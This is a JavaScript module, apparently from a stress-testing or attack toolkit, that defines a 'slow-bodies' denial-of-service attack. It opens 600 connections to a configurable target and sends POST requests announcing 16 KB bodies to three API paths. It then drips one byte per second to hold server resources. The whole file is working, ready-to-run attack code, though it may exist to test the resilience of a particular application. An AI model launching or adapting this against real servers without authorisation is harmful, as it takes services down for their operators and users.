import { holdConnections, requestText } from '../attack.js';

const heads = ['/api/anmeldung', '/api/stopp', '/api/touren/lauf'].map((path) =>
  requestText('POST', path, { body: '{', length: 16_000 }),
);

/** Bodies of nearly 16 KiB, the maximum of the server, sent byte by byte. */
export default {
  name: 'slow-bodies',
  title: '600 bodies of 16 KB that arrive byte by byte',
  attack: ({ target, from, connections = 600, everyMs = 1_000 }) =>
    holdConnections({
      target,
      from,
      count: connections,
      use(socket, index) {
        socket.write(heads[index % heads.length]);
        socket.resume();
        const timer = setInterval(() => socket.write(' '), everyMs);
        return () => clearInterval(timer);
      },
    }),
};
